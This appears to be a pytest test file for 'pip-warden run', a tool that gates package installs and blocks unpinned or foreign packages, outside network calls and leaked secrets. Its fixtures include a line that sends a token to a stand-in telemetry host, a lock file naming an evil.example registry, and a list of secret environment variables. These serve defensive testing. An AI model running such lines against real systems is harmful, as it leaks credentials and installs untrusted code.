"""pip-warden run: the order of a run, from its words to its report."""

from __future__ import annotations

import json
import re
import shutil
import signal
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from cli.terminal import typed
from documents import described
from flow.user import Run, User
from hearing import in_a_terminal
from installers.witness import LONGEST_WAIT, Witness, is_held
from ordinary import parametrized
from pip_warden.cli.run_command import command as run_command
from pip_warden.report.model import Report
from pip_warden.sandbox import Project
from pip_warden.sandbox.faults import Answer

UV = str(Path(sys.executable).with_name("uv"))
PIP_WARDEN = str(Path(sys.executable).with_name("pip-warden"))
ASK = "import urllib.request as r; r.urlopen('http://elsewhere.example/telemetry?token=hunter2')"
DAEMON = "import sys, time; print('daemon', file=open(sys.argv[1], 'a'), flush=True); time.sleep(600)"
BLOCKED = f"""
import os, subprocess, sys, time
subprocess.Popen([sys.executable, "-c", {DAEMON!r}, sys.argv[1]], start_new_session=True)
pipe = open(sys.argv[1], "a")
print("command", os.environ["HTTP_PROXY"], file=pipe, flush=True)
time.sleep(600)
"""
LEAKS = [
    "AWS_SECRET_ACCESS_KEY",
    "CURL_CA_BUNDLE",
    "GIT_CONFIG_GLOBAL",
    "HARMLESS",
    "HTTPS_PROXY",
    "PIP_CERT",
    "PIP_EXTRA_INDEX_URL",
    "SSL_CERT_DIR",
    "UV_INDEX",
    "UV_SYSTEM_CERTS",
    "no_proxy",
]
EVIL_LOCK = """version = 1
revision = 3
requires-python = ">=3.10"

[[package]]
name = "idna"
version = "3.20"
source = { registry = "https://evil.example/simple" }
wheels = [
    { url = "https://evil.example/idna-3.20-py3-none-any.whl", hash = "sha256:%s" },
]
"""


def ran(user: User, *words: str, options: tuple[str, ...] = ()) -> Run:
    """Type pip-warden run."""
    return user.type(*options, "--", *words, command=run_command, name="pip-warden run")


def pip(user: User, *words: str) -> tuple[str, ...]:
    """Return a command line of the user's own pip."""
    return (sys.executable, "-m", "pip", "--python", str(user.target), *words)


def index_of(user: User, project: Project) -> str:
    """Return the URL of the index of a GitLab project."""
    return f"{user.sandbox.gitlab_url}/api/v4/projects/{project.record.id}/packages/pypi/simple"


def uv_project(user: User, project: Project, more: str = "") -> None:
    """Make a project of the user's own, which depends on the package of a GitLab project."""
    (user.home / "pyproject.toml").write_text(
        '[project]\nname = "mine"\nversion = "1"\nrequires-python = ">=3.10"\n'
        f'dependencies = ["{project.record.name}"]\n'
        f'[[tool.uv.index]]\nname = "acme"\nurl = "{index_of(user, project)}"\ndefault = true\n{more}'
    )


def false_uv(user: User, script: str) -> str:
    """Make a program that is called uv."""
    program = user.home / "bin" / "uv"
    program.parent.mkdir()
    program.write_text(f"#!/bin/sh\n{script}\n")
    program.chmod(0o755)
    return str(program)


def test_the_users_own_pip_installs_what_was_accepted(user: User) -> None:
    project = user.published()
    run = ran(user, *pip(user, "install", project.record.name))

    assert (run.code, run.document["installer_exit_code"]) == (0, 0), run.output
    assert user.installed() == {project.record.name: "1.0"}
    assert run.accepted == {f"{project.record.name}-1.0-py3-none-any.whl"}
    assert "compared with what was accepted: 1 distribution the same" in run.output


def test_a_denial_ends_the_users_own_pip(user: User) -> None:
    project = user.published(forms=())
    before = user.snapshot()
    run = ran(user, *pip(user, "install", project.record.name))

    assert (run.code, "no-evidence" in run.codes, user.snapshot()) == (1, True, before), run.output
    assert run.document["installer_exit_code"] != 0


def test_a_denial_ends_a_command_that_would_go_on(user: User) -> None:
    """Nobody else says that it was denied: it takes no notice, and waits for nothing to happen."""
    project = user.published(pinned=False)
    page = f"{index_of(user, project)}/{project.record.name}"
    ask = f"try: r.urlopen('{page}')\nexcept OSError: pass"
    run = ran(user, sys.executable, "-c", f"import urllib.request as r, time\n{ask}\ntime.sleep(600)")

    assert (run.code, run.codes) == (1, {"not-pinned"}), run.output
    assert run.document["installer_exit_code"] < 0


def test_a_page_that_cannot_be_had_decides_nothing(user: User) -> None:
    project = user.published()
    user.sandbox.fault(Answer(status=503), f"/simple/{project.record.name}", times=9)
    run = ran(user, *pip(user, "install", project.record.name), options=("--retries", "0"))

    assert (run.code, run.outcome(project.record.name), user.installed()) == (3, "undecided", {}), run.output


def test_a_lock_names_the_real_registry_and_stays_as_it_is(user: User) -> None:
    project = user.published()
    uv_project(user, project)
    locked = ran(user, UV, "lock")
    lock = (user.home / "uv.lock").read_bytes()
    assert locked.code == 0, locked.output
    assert f'registry = "{user.sandbox.gitlab_url}'.encode() in lock
    (line,) = locked.document["files"]
    assert line["note"] == "not used: only its metadata was asked for"

    synced = ran(user, UV, "sync", "--locked", "--no-install-project", options=("--strict",))
    assert synced.code == 0, synced.output
    assert (user.home / "uv.lock").read_bytes() == lock
    assert "1 distribution the same" in synced.output


def test_a_lock_that_demands_other_bytes_is_refused(user: User) -> None:
    project = user.published()
    uv_project(user, project)
    assert ran(user, UV, "lock").code == 0
    path = user.home / "uv.lock"
    lock = re.sub('hash = "sha256:[0-9a-f]{64}"', f'hash = "sha256:{"0" * 64}"', path.read_text())
    path.write_text(lock)
    run = ran(user, UV, "sync", "--frozen", "--no-install-project")

    assert (run.code, run.codes, path.read_text()) == (1, {"lock-disagrees"}, lock), run.output
    assert not list(user.home.glob(".venv/lib/*/site-packages/pkg*"))


def test_an_unpinned_name_in_a_lock_is_refused_with_all_others(user: User) -> None:
    project = user.published(pinned=False)
    uv_project(user, project)
    lock = EVIL_LOCK % ("a" * 64)
    (user.home / "uv.lock").write_text(lock.replace("https://evil.example/simple", user.sandbox.gitlab_url))
    run = ran(user, UV, "lock")

    assert (run.code, "not-pinned" in run.codes) == (1, True), run.output
    assert {"idna", project.record.name} <= {name["project"] for name in run.document["unpinned"]}


def test_a_setting_that_leads_elsewhere_is_refused_before_anything_is_started(user: User) -> None:
    sources = '[tool.uv.sources]\nother = {git = "https://evil.example/a"}\nmore = {url = "https://evil.example/b.whl"}\n'
    uv_project(user, user.project(), sources)
    run = ran(user, false_uv(user, "touch started"), "lock")

    assert (run.code, run.codes, run.document["installer_exit_code"]) == (1, {"leads-elsewhere"}, None)
    assert {line["file"].rpartition(" (")[2] for line in run.document["files"]} == {"line 11)", "line 12)"}
    assert not (user.home / "started").exists()


def test_a_lock_entry_from_elsewhere_is_refused(user: User) -> None:
    (user.home / "new.lock").write_text(EVIL_LOCK % ("a" * 64))
    for words in ((false_uv(user, "cp new.lock uv.lock"), "lock"), ("cp", "new.lock", "uv.lock")):
        run = ran(user, *words)
        assert (run.code, run.outcome("idna 3.20"), run.codes) == (1, "refused", {"not-through-gate"}), (
            run.output
        )
        (user.home / "uv.lock").unlink()


def test_a_lock_entry_is_told_with_its_line(user: User, monkeypatch: pytest.MonkeyPatch) -> None:
    reports: list[Report] = []

    def keep(report: Report, *rest: object, **named: object) -> int:
        reports.append(report)
        return report.exit_code

    monkeypatch.setattr("pip_warden.cli.run_command.print_report", keep)
    (user.home / "new.lock").write_text(EVIL_LOCK % ("a" * 64))
    words = ("--trust", str(user.home / "pytrust.toml"), "--", "cp", "new.lock", "uv.lock")
    run_command.main(list(words), standalone_mode=False)

    (report,) = reports
    assert [(project, Path(place.path).name, place.line) for project, place in report.places] == [
        ("idna", "uv.lock", 5)
    ]


def test_what_is_in_an_environment_and_came_past_the_gate_is_refused(user: User) -> None:
    site = user.site.relative_to(user.target)
    uv = false_uv(user, f"mkdir .venv/{site}/evil-1.0.dist-info && echo > .venv/{site}/evil.py")
    uv_project(user, user.project())
    shutil.copytree(user.target, user.home / ".venv", symlinks=True)
    run = ran(user, uv, "sync")

    assert (run.code, run.codes) == (1, {"not-through-gate"}), run.output
    assert any("evil" in line["file"] for line in run.document["files"])


def test_an_unknown_command_is_run_and_not_compared(user: User) -> None:
    run = ran(user, "true")
    assert (run.code, run.document["error"]) == (0, None)
    assert run.document["warnings"] == ["true is no tool that is known: what it installed is not compared"]

    strict = ran(user, "true", options=("--strict",))
    assert (strict.code, strict.codes) == (1, {"strict"})


def test_a_known_tool_whose_environment_is_not_known_is_not_compared(user: User) -> None:
    program = user.home / "pip"
    program.write_text("#!/bin/sh\n")
    program.chmod(0o755)
    words = (str(program), "--python", "nowhere", "install", "x")
    told = f"{program} names no environment that is known: what it installed is not compared"

    assert (run := ran(user, *words)).code == 0
    assert told in run.document["warnings"]
    assert ran(user, *words, options=("--strict",)).code == 1


def test_a_lock_that_cannot_be_read_is_not_compared(user: User) -> None:
    (user.home / "uv.lock").write_text("no lock")
    run = ran(user, false_uv(user, "true"), "lock")
    assert (run.code, len(run.document["warnings"])) == (0, 1), run.output
    assert ran(user, str(user.home / "bin/uv"), "lock", options=("--strict",)).code == 1


def test_a_directory_that_the_command_removed_is_told(user: User) -> None:
    away = user.home / "away"
    away.mkdir()
    (away / "pytrust.toml").write_text((user.home / "pytrust.toml").read_text())
    shutil.copy(user.root, away)
    user.patch.chdir(away)
    run = ran(user, "sh", "-c", f"rm -r {away}")
    assert (run.code, len(run.document["warnings"])) == (0, 2), run.output


@pytest.mark.parametrize("word", ["no-such-program", "./no-such-program", "/nowhere/pip", "."])
def test_what_is_no_program_is_told(user: User, word: str) -> None:
    run = ran(user, word)
    assert (run.code, run.codes) == (2, {"no-such-command"})


@pytest.mark.parametrize(
    ("script", "found"), [("exit 3", "exit code 3"), ("kill -SEGV $$", "signal SIGSEGV")]
)
def test_a_command_that_fails(user: User, script: str, found: str) -> None:
    run = ran(user, "sh", "-c", script)
    assert (run.code, run.codes) == (4, {"command-failed"})
    assert found in run.document["error"]["message"]


def test_a_command_that_fails_may_have_lacked_what_its_lock_names(user: User) -> None:
    """Some tools say no more than that they found nothing: pages do not list what is not pinned."""
    (user.home / "uv.lock").write_text(EVIL_LOCK % ("a" * 64))
    run = ran(user, "sh", "-c", "exit 1")

    assert (run.code, run.codes) == (4, {"command-failed"})
    assert "Not pinned: idna 3.20 in uv.lock." in run.document["error"]["hint"]


def test_what_cannot_be_started_has_failed(user: User) -> None:
    program = user.home / "program"
    program.write_text("#!/nowhere/interpreter\n")
    program.chmod(0o755)
    run = ran(user, str(program))
    assert (run.code, run.codes) == (4, {"command-failed"})


def test_a_command_that_was_stopped_at_the_gate_and_failed(user: User) -> None:
    run = ran(user, sys.executable, "-c", ASK)
    assert (run.code, run.codes) == (1, {"outside-the-gate"})
    assert "http://elsewhere.example/telemetry" in run.document["error"]["message"]
    assert "name a pinned one as the project's index" in run.document["error"]["hint"]
    assert "hunter2" not in run.output


def test_a_command_that_was_stopped_at_the_gate_and_went_on(user: User) -> None:
    run = ran(user, sys.executable, "-c", f"try:\n    {ASK}\nexcept OSError: pass")
    assert run.code == 0
    assert any("stopped at the gate" in text and "elsewhere" in text for text in run.document["warnings"])
    assert "hunter2" not in run.output


def test_a_host_of_files_that_no_page_named_before_is_told(user: User) -> None:
    """An index may have the files of each project elsewhere: one page is read to learn where."""
    box = user.sandbox
    other, file = box.wheel("host-one", "1.0"), box.wheel("host-two", "1.0")
    for name, wheel in (("host-one", other), ("host-two", file)):
        box.upstream.add(name, [wheel])
        user.pin_hash(wheel, name=name)
    link = f'<a href="https://files.elsewhere.example/{file.name}">{file.name}</a>'
    answer = Answer(status=200, body=link.encode(), headers=(("content-type", "text/html"),))
    box.fault(answer, "/simple/host-two", times=None)
    run = ran(
        user, sys.executable, "-c", f"import urllib.request as r; r.urlopen('{box.pypi_url}/host-two/')"
    )
    assert run.code == 0
    told = "files are listed on https://files.elsewhere.example, for which the gate does not answer"
    assert told in run.document["warnings"], run.output


def test_the_environment_is_closed(user: User, capfd: pytest.CaptureFixture[str]) -> None:
    for name in LEAKS:
        user.patch.setenv(name, "hunter2")
    words = (sys.executable, "-c", "import json, os; print(json.dumps(dict(os.environ)))")
    capfd.readouterr()
    assert ran(user, *words, options=("--pass-env", "LANG")).code == 0
    out, err = capfd.readouterr()
    seen = json.loads(err)

    assert (out, [name for name, value in seen.items() if "hunter2" in value]) == ("", [])
    assert "SSL_CERT_DIR" not in seen
    assert user.token not in err
    assert seen["GIT_ALLOW_PROTOCOL"] == seen["NO_PROXY"] == ""
    for name in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "PIP_CERT"):
        assert seen[name].startswith(seen["HOME"].partition("/child/")[0])


def test_a_secret_is_not_passed_on(user: User) -> None:
    run = ran(user, "true", options=("--pass-env", "GITLAB_TOKEN"))
    assert (run.code, run.codes) == (2, {"secret-variable"})


def test_standard_output_is_the_commands_or_the_reports(user: User) -> None:
    words = (PIP_WARDEN, "run", "--", "sh", "-c", "cat; echo --format json")
    done = subprocess.run(words, input="in\n", capture_output=True, text=True, check=False)
    assert (done.returncode, done.stdout) == (0, "in\n--format json\n")
    assert "is no tool that is known" in done.stderr

    done = subprocess.run(
        (PIP_WARDEN, "run", "--format", "json", *words[2:]),
        input="in\n",
        capture_output=True,
        text=True,
        check=False,
    )
    assert described(done.stdout)["command"] == "run"
    assert "in\n--format json\n" in done.stderr


def test_what_stands_after_two_dashes_is_the_commands(user: User) -> None:
    """How an error is told is not asked of the command's own words."""
    said = typed("run", "--trust", "absent.toml", "--", "pip", "list", "--format", "json")
    assert (said.code, said.out, "[no-trust-file]" in said.err) == (2, "", True)


@pytest.mark.skipif(sys.platform != "linux", reason="there are no namespaces elsewhere")
def test_an_isolated_command_has_no_other_network(user: User) -> None:
    port = urlsplit(user.sandbox.gitlab_url).port
    words = (sys.executable, "-c", f"import socket; socket.create_connection(('127.0.0.1', {port}))")
    assert ran(user, *words).code == 0
    assert ran(user, *words, options=("--isolate-network",)).code == 4


def test_the_command_may_begin_with_the_first_word_that_is_no_option(user: User) -> None:
    run = user.type("sh", "-c", "exit 3", command=run_command, name="pip-warden run")
    assert (run.code, run.document["installer_exit_code"]) == (4, 3)


@pytest.mark.parametrize("words", [("run",), ("run", "--")])
def test_a_command_is_needed(user: User, words: tuple[str, ...]) -> None:
    run = user.type(*words[1:], command=run_command, name="pip-warden run")
    assert (run.code, run.codes) == (2, {"usage"})


@parametrized(("number", "code"), [(signal.SIGINT, 130), (signal.SIGTERM, 143)], ordinary={0})
def test_b08_told_to_end(user: User, number: signal.Signals, code: int) -> None:
    path = user.home / "witness"
    words = ("run", "--", sys.executable, "-c", BLOCKED, str(path))
    with Witness(path) as witness, in_a_terminal(user.home, PIP_WARDEN, *words) as process:
        port = urlsplit(witness.words(2)["command"][0]).port or 0
        assert is_held(port)
        process.send_signal(number)
        process.communicate(timeout=LONGEST_WAIT)
        assert process.returncode == code
        assert witness.all_gone()
    assert not is_held(port)
    assert not list((user.home / "tmp").iterdir())
